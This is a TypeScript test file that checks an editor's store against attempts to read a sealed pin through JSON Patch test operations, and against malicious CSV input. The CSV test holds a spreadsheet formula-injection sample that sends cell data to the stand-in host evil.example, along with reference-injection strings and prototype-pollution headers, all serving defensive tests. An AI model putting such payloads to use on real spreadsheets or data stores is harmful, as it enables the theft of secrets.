import { describe, expect, it } from "vitest";
import { csvRecords } from "../../../src/store/bytes/csv-records.ts";
import { MemoryStore } from "../../../src/store/memory-store.ts";
import type { Json } from "../../../src/value/json.ts";
import { streamed } from "../../../test/contract/store-content.ts";
import { Editor } from "./editor.ts";

const orders = [{ id: 1, name: "ann" }];
const RIGHT = "hunter2";
const WRONG = "another";

/** Returns the errors of an edit for each of two values of `pin` in the sealed variable `$vault`. */
async function answers(input: Readonly<Record<string, Json>>): Promise<readonly string[]> {
  const said: string[] = [];
  for (const pin of [RIGHT, WRONG]) {
    const editor = new Editor();
    await editor.store.save({ name: "orders", value: orders });
    await editor.store.save({ name: "vault", value: [{ pin }], visibility: "sealed" });
    said.push(await editor.refusal(input));
  }
  return said;
}

describe("a question about a sealed value", () => {
  it.each([
    [{ op: "test", path: "/0/name", value: "$vault[0].pin" }],
    [
      { op: "add", path: "/0/pin", value: "$vault[0].pin" },
      { op: "test", path: "/0/pin", value: RIGHT },
    ],
    [
      { op: "add", path: "/0/pin", value: "$vault[0]" },
      { op: "copy", from: "/0/pin/pin", path: "/0/name" },
      { op: "test", path: "/0/name", value: RIGHT },
    ],
    [
      { op: "replace", path: "/0", value: "$vault[0]" },
      { op: "test", path: "", value: [{ pin: RIGHT }] },
    ],
  ])("is not shown by the test of a JSON Patch (%#)", async (...edits) => {
    const said = await answers({ edits, saveAs: "out" });
    expect(said.join()).not.toContain(RIGHT);
  });
});

describe("a malicious CSV", () => {
  const sent = async (text: string) => {
    const store = new MemoryStore({ csv: csvRecords });
    const { stream } = streamed([new TextEncoder().encode(text)]);
    const value = await store.receiveRecords(stream, "text/csv", {});
    if (value === undefined) throw new Error("It is no CSV.");
    await store.save({ name: "v", value });
    return store.read("v");
  };

  it("is texts: no formula, no reference and no handle in it is read as one", async () => {
    const cells = ['=HYPERLINK("https://evil.example/"&A1)', "$vault[0].pin", '{"$var":"vault"}'];
    const rows = cells.map((cell) => `"${cell.replaceAll('"', '""')}"\n`);
    expect(await sent(`text\n${rows.join("")}`)).toEqual(cells.map((text) => ({ text })));
  });

  it("has headers that are only keys", async () => {
    const records = (await sent("__proto__,constructor,$vault\na,b,c\n")) as Json;
    expect(JSON.stringify(records)).toBe('[{"__proto__":"a","constructor":"b","$vault":"c"}]');
    expect(Object.keys(Object.prototype)).toEqual([]);
  });
});
